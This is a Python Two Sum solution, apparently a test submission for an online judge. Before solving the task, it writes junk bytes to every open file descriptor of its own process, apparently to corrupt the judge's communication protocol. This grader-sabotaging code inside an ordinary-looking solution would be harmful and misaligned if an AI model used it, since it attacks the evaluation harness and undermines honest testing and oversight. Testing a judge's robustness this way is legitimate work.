# Writes only garbage (no protocol letter, no newline at first) to every /proc/self/fd entry.
import os


class Solution:
    def twoSum(self, nums: List[int], target: int) -> List[int]:
        for name in os.listdir("/proc/self/fd"):
            try:
                fd = os.open("/proc/self/fd/" + name, os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, b"\x00\xfe" * 1000 + b"\n")
                os.close(fd)
            except OSError:
                pass
        seen = {}
        for i, v in enumerate(nums):
            if target - v in seen:
                return [seen[target - v], i]
            seen[v] = i
        return []
